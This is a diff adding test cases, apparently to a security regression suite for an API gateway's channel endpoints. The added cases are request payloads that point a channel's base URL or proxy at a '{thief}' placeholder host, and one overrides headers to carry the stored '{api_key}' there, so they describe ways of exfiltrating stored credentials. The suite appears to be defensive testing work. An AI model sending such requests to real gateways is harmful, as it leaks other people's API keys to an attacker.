@@ -221,6 +221,14 @@ const several: readonly ChannelWrite[] = [
     ],
   },
   {
+    name: 'an own key appended to the stored one, at an own address',
+    steps: [put({ key: OWN_KEY, key_mode: 'append', base_url: '{thief}' })],
+  },
+  {
+    name: 'an own key appended, with a proxy',
+    steps: [put({ key: OWN_KEY, key_mode: 'append', setting: json({ proxy: '{thief}' }) })],
+  },
+  {
     name: 'keys added with an address',
     steps: [post('/api/channel/{id}/keys', { key: OWN_KEY, base_url: '{thief}' })],
   },
@@ -239,6 +247,19 @@ const questions: readonly ChannelWrite[] = [
   {
     name: 'a form without a key',
     steps: [post('/api/channel/fetch_models', { id: '{id}', type: 1, key: '', base_url: '{thief}' })],
+  },
+  {
+    name: 'a form without a key at the stored address, through an own proxy',
+    steps: [
+      post('/api/channel/fetch_models', {
+        type: 1,
+        key: '',
+        base_url: '{home}',
+        setting: json({ proxy: '{thief}', advanced_routes: [thiefRoute] }),
+        header_override: json({ a: '{api_key}' }),
+        other: '{thief}',
+      }),
+    ],
   },
   {
     name: 'a form with the preview',
